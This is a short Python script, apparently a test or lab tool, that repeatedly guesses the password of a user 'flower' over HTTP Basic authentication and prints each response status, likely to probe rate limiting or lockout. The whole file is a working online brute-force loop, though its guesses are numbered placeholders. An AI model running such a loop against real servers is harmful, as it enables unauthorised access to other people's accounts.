"""Guesses Flower's password; prints the status of each answer."""

import base64
import json
import sys

from wire import exchange, statuses


def main(address: str, domain: str, tries: int) -> None:
    """Guess as fast as the server answers."""
    found = []
    for number in range(tries):
        login = base64.b64encode(f"flower:guess{number}".encode()).decode()
        lines = [
            "GET /flower/ HTTP/1.1",
            f"Host: {domain}",
            f"Authorization: Basic {login}",
            "Connection: close",
        ]
        found += statuses(exchange(address, domain, "\r\n".join([*lines, "", ""]).encode()))
    print(json.dumps(found))


main(**json.loads(sys.argv[1]))
